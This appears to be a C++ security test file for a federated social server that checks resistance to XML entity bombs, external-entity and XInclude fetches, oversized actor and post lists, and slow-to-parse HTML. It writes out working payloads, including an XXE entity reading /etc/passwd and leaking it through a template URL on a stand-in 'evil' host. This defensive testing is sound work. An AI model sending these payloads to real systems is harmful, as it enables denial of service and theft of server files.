// Attacks 28, 29 and 33: text that is meant for a parser of ours.

#include "tests/attacks/markup.h"

#include <chrono>

namespace hallway::test {
namespace {

using testing::IsEmpty;
using testing::Le;

std::string repeated(std::string_view piece, size_t times) {
  std::string all;
  for (size_t i = 0; i < times; ++i) all += piece;
  return all;
}

using Attack28 = MarkupAttack;
using Attack29 = MarkupAttack;
using Attack33 = MarkupAttack;

// --- 28: XML that unpacks, or that asks somebody

TEST_F(Attack28, HostMetaNeitherUnpacksNorFetches) {
  std::string laughs = "<!DOCTYPE XRD [<!ENTITY l0 \"lol\">";
  for (int i = 1; i < 12; ++i) {
    const auto inner = "&l" + std::to_string(i - 1) + ";";
    laughs += "<!ENTITY l" + std::to_string(i) + " \"" + repeated(inner, 10) + "\">";
  }
  laughs += "]>";
  const auto link = "<Link rel=\"lrdd\" template=\"" + evil_.at("/finger?q={uri}") + "\"/>";
  const std::string documents[] = {
      laughs + "<XRD><Subject>&l11;</Subject>" + link + "</XRD>",
      "<!DOCTYPE XRD [<!ENTITY x SYSTEM \"" + good_.at("/x") + "\">]><XRD>&x;" + link + "</XRD>",
      "<!DOCTYPE XRD SYSTEM \"" + good_.at("/dtd") + "\"><XRD>" + link + "</XRD>",
      "<!DOCTYPE XRD [<!ENTITY % x SYSTEM \"" + good_.at("/x") + "\">%x;]><XRD>" + link + "</XRD>",
      "<!DOCTYPE XRD [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><XRD><Link rel=\"lrdd\" "
      "template=\"" +
          evil_.at("/finger?q={uri}&amp;s=&x;") + "\"/></XRD>",
      "<XRD xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + good_.at("/x") +
          "\"/>" + link + "</XRD>",
      repeated("<XRD>", 50'000) + link,
      "<XRD>" + repeated("<!--", 50'000) + link};
  for (const auto& document : documents) {
    SCOPED_TRACE(document.substr(0, 120));
    evil_.put("/.well-known/host-meta",
              Response{.headers = {{"Content-Type", "application/xrd+xml"}}, .body = document});
    const auto before = victim_.stored();
    evil_.forget();
    EXPECT_TRUE(victim_.search("@nobody@" + evil_.domain()).at("accounts").empty());
    EXPECT_THAT(victim_.changes(before), IsEmpty());
    EXPECT_EQ(evil_.asked("/.well-known/host-meta"), 1U);
    for (const auto& request : evil_.seen())
      EXPECT_EQ(request.target.find("root:"), std::string::npos);
  }
  EXPECT_EQ(good_.asked(), 0U);
  // One that does neither is followed.
  const auto handle = "quiet@" + evil_.domain();
  const Json jrd = {
      {"subject", "acct:" + handle},
      {"links", {{{"rel", "self"}, {"type", kActivityJson}, {"href", evil_.at("/users/quiet")}}}}};
  evil_.put("/finger?q=" + percent_encode("acct:" + handle), jrd, "application/jrd+json");
  evil_.put("/users/quiet",
            person_json(evil_.at("/users/quiet"), "quiet", test_key(KeyType::rsa, 3).public_key()));
  evil_.put("/.well-known/host-meta",
            Response{.headers = {{"Content-Type", "application/xrd+xml"}},
                     .body = "<XRD xmlns=\"http://docs.oasis-open.org/ns/xri/xrd-1.0\">" + link +
                             "</XRD>"});
  EXPECT_EQ(victim_.search("@" + handle).at("accounts").size(), 1U);
}

// --- 29: lists and names without end

TEST_F(Attack29, ListsOfAPostAreCapped) {
  Json tags = Json::array(), files = Json::array(), people = Json::array({victim_.alice()});
  for (int i = 0; i < 3'000; ++i) {
    const auto number = std::to_string(i);
    tags.push_back({{"type", "Hashtag"}, {"name", "#tag" + number}});
    tags.push_back(
        {{"type", "Mention"}, {"href", good_.at("/u/" + number)}, {"name", "@u" + number}});
    files.push_back({{"type", "Image"}, {"url", evil_.at("/" + number + ".png")}});
    people.push_back(good_.at("/u/" + number));
  }
  const auto id = evil_.at("/notes/1");
  taken(victim_.post(
      create_by(mallory_, answer(id, {{"tag", tags}, {"attachment", files}, {"cc", people}})),
      mallory_));
  const auto post = *victim_.find_post(id);
  EXPECT_EQ(post.tags.size(), 100U);
  EXPECT_EQ(post.mentions.size(), 100U);
  EXPECT_EQ(post.attachments.size(), 32U);
  ASSERT_TRUE(victim_.settle());
  EXPECT_THAT(good_.asked(), Le(1U)) << "whom a stranger names is not looked up in bulk";
}

TEST_F(Attack29, ListsAndNamesOfAnActorAreCapped) {
  const auto path = std::string("/users/hydra");
  auto document = person_json(evil_.at(path), "hydra", test_key(KeyType::rsa, 3).public_key());
  Json fields = Json::array(), aliases = Json::array();
  for (int i = 0; i < 3'000; ++i) {
    const auto number = std::to_string(i);
    fields.push_back({{"type", "PropertyValue"}, {"name", "f" + number}, {"value", "v"}});
    aliases.push_back(good_.at("/u/" + number));
  }
  document["attachment"] = fields;
  document["alsoKnownAs"] = aliases;
  document["name"] = std::string(100'000, 'n');
  document["summary"] = "<p>" + std::string(200'000, 's') + "</p>";
  evil_.put(path, document);
  ASSERT_TRUE(victim_.node().resolver().resolve_actor(iri(evil_.at(path))).ok());
  const auto known = victim_.find_actor(evil_.at(path));
  ASSERT_TRUE(known.has_value());
  EXPECT_EQ(known->fields.size(), 50U);
  EXPECT_EQ(known->also_known_as.size(), 64U);
  EXPECT_EQ(known->display_name.size(), 2'048U);
  EXPECT_EQ(known->summary.size(), 20'000U + std::string_view("</p>").size());
  EXPECT_EQ(good_.asked(), 0U);

  document["preferredUsername"] = std::string(5'000, 'u');
  document["id"] = evil_.at("/users/long");
  evil_.put("/users/long", document);
  EXPECT_FALSE(victim_.node().resolver().resolve_actor(iri(evil_.at("/users/long"))).ok());
}

// --- 33: HTML that costs time

TEST_F(Attack33, NoMarkupTakesLong) {
  const std::string pieces[] = {
      "<div>",  "<a href=\"", "<",           "<!--",        "&",
      "&#",     "</p>",       "<p a=b ",     "<![CDATA[",   "<blockquote><ul>",
      "<a><a>", "\"'`",       "<svg><math>", "<table><tr>", "<script><!--"};
  const size_t much = 200'000;
  int number = 0;
  for (const auto& piece : pieces) {
    SCOPED_TRACE(piece);
    const auto id = evil_.at("/notes/" + std::to_string(++number));
    const auto body = repeated(piece, much / piece.size());
    const auto begun = std::chrono::steady_clock::now();
    const auto status =
        victim_.send(victim_.post(create_by(mallory_, answer(id, {{"content", body}})), mallory_))
            .status;
    EXPECT_THAT(std::chrono::steady_clock::now() - begun, Le(std::chrono::seconds(5)));
    EXPECT_TRUE(status == 202 || status == 400 || status == 413) << status;
  }
}

}  // namespace
}  // namespace hallway::test
